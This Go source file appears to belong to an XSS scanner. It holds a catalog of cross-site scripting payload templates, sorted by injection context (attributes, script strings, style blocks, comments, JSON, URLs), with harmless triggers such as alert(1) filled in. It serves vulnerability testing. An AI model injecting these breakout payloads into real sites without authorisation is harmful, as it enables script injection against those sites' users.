// Package payloads holds the hand-curated, context-specific exploit
// template catalog.
package payloads

import (
	"fmt"
	"math/rand"
	"sync"

	"xsscan/internal/contexts"
)

// Triggers is the fixed vocabulary of JavaScript calls substituted into
// every template. One trigger is picked per parameter-scan, never per
// template, so the success check stays consistent across all payloads
// tested for that parameter.
var Triggers = []string{
	"alert(1)",
	"alert(document.domain)",
	"alert`1`",
	"confirm(1)",
	"prompt(1)",
	"print()",
}

// Catalog maps injection contexts to ordered exploit templates.
type Catalog struct {
	mu  sync.Mutex
	rng *rand.Rand
}

// NewCatalog returns a catalog drawing triggers from rng. Passing the
// source in keeps trigger selection deterministic under test.
func NewCatalog(rng *rand.Rand) *Catalog {
	return &Catalog{rng: rng}
}

// Trigger picks the trigger call for one parameter-scan.
func (c *Catalog) Trigger() string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return Triggers[c.rng.Intn(len(Triggers))]
}

// For returns the exploit strings for ctx in test order, each carrying
// trigger. A context without a curated list falls back to the generic
// script tag.
func (c *Catalog) For(ctx contexts.Context, trigger string) []string {
	switch ctx {
	case contexts.HTMLText:
		return htmlTextPayloads(trigger)
	case contexts.AttrValueDoubleQuote:
		return doubleQuotePayloads(trigger)
	case contexts.AttrValueSingleQuote:
		return singleQuotePayloads(trigger)
	case contexts.AttrValueNoQuote:
		return unquotedAttrPayloads(trigger)
	case contexts.AttrName:
		return attrNamePayloads(trigger)
	case contexts.ScriptBlock:
		return scriptBlockPayloads(trigger)
	case contexts.ScriptString:
		return scriptStringPayloads(trigger)
	case contexts.StyleBlock:
		return styleBlockPayloads(trigger)
	case contexts.HTMLComment:
		return htmlCommentPayloads(trigger)
	case contexts.JSONValue:
		return jsonPayloads(trigger)
	case contexts.URLParam:
		return urlParamPayloads(trigger)
	default:
		return []string{fmt.Sprintf("<script>%s</script>", trigger)}
	}
}

func htmlTextPayloads(trigger string) []string {
	return []string{
		fmt.Sprintf("<script>%s</script>", trigger),
		fmt.Sprintf("<img src=x onerror=%s>", trigger),
		fmt.Sprintf("<svg onload=%s>", trigger),
		fmt.Sprintf("<iframe src=javascript:%s>", trigger),
		fmt.Sprintf("<body onload=%s>", trigger),
		fmt.Sprintf("<details open ontoggle=%s>", trigger),
		fmt.Sprintf("<marquee onstart=%s>", trigger),
	}
}

// Double-quote templates begin with `"` to close the attribute value
// before injecting a new tag or event handler.
func doubleQuotePayloads(trigger string) []string {
	return []string{
		fmt.Sprintf(`"><script>%s</script>`, trigger),
		fmt.Sprintf(`" onload="%s" x="`, trigger),
		fmt.Sprintf(`" autofocus onfocus="%s" x="`, trigger),
		fmt.Sprintf(`" onclick="%s" x="`, trigger),
		fmt.Sprintf(`"><img src=x onerror=%s>`, trigger),
		fmt.Sprintf(`"><svg onload=%s>`, trigger),
		fmt.Sprintf(`" onerror="%s" src="x`, trigger),
	}
}

func singleQuotePayloads(trigger string) []string {
	return []string{
		fmt.Sprintf(`'><script>%s</script>`, trigger),
		fmt.Sprintf(`' onload='%s' x='`, trigger),
		fmt.Sprintf(`' autofocus onfocus='%s' x='`, trigger),
		fmt.Sprintf(`' onclick='%s' x='`, trigger),
		fmt.Sprintf(`'><img src=x onerror=%s>`, trigger),
		fmt.Sprintf(`'><svg onload=%s>`, trigger),
	}
}

func unquotedAttrPayloads(trigger string) []string {
	return []string{
		fmt.Sprintf(" onload=%s x=", trigger),
		fmt.Sprintf(" onclick=%s x=", trigger),
		fmt.Sprintf(" onfocus=%s autofocus x=", trigger),
		fmt.Sprintf("><script>%s</script>", trigger),
		fmt.Sprintf("><img src=x onerror=%s>", trigger),
	}
}

func attrNamePayloads(trigger string) []string {
	return []string{
		fmt.Sprintf(" onload=%s ", trigger),
		fmt.Sprintf(" onclick=%s ", trigger),
		fmt.Sprintf(" onfocus=%s autofocus ", trigger),
		fmt.Sprintf("><script>%s</script><x ", trigger),
	}
}

func scriptBlockPayloads(trigger string) []string {
	return []string{
		fmt.Sprintf(";%s//", trigger),
		fmt.Sprintf(";%s/*", trigger),
		fmt.Sprintf("</script><script>%s</script><script>", trigger),
		fmt.Sprintf("';%s//", trigger),
		fmt.Sprintf(`";%s//`, trigger),
		fmt.Sprintf("-%s//", trigger),
	}
}

// Script-string templates begin with a matching quote plus a statement
// terminator to break out of the enclosing literal.
func scriptStringPayloads(trigger string) []string {
	return []string{
		fmt.Sprintf("';%s//", trigger),
		fmt.Sprintf(`";%s//`, trigger),
		fmt.Sprintf("'-%s-'", trigger),
		fmt.Sprintf(`"-%s-"`, trigger),
		fmt.Sprintf("</script><script>%s</script><script>", trigger),
	}
}

func styleBlockPayloads(trigger string) []string {
	return []string{
		fmt.Sprintf("</style><script>%s</script><style>", trigger),
		fmt.Sprintf("</style><img src=x onerror=%s><style>", trigger),
		fmt.Sprintf("} </style><script>%s</script><style>", trigger),
	}
}

func htmlCommentPayloads(trigger string) []string {
	return []string{
		fmt.Sprintf("--><script>%s</script><!--", trigger),
		fmt.Sprintf("--><img src=x onerror=%s><!--", trigger),
		fmt.Sprintf("--><svg onload=%s><!--", trigger),
	}
}

func jsonPayloads(trigger string) []string {
	return []string{
		fmt.Sprintf(`\"><script>%s</script>`, trigger),
		fmt.Sprintf(`\"}}<script>%s</script>`, trigger),
		fmt.Sprintf(`<script>%s</script>`, trigger),
	}
}

func urlParamPayloads(trigger string) []string {
	return []string{
		fmt.Sprintf("javascript:%s", trigger),
		fmt.Sprintf("data:text/html,<script>%s</script>", trigger),
		fmt.Sprintf("javascript:void(%s)", trigger),
		fmt.Sprintf(`" onload=%s x="`, trigger),
		fmt.Sprintf(`' onload=%s x='`, trigger),
	}
}
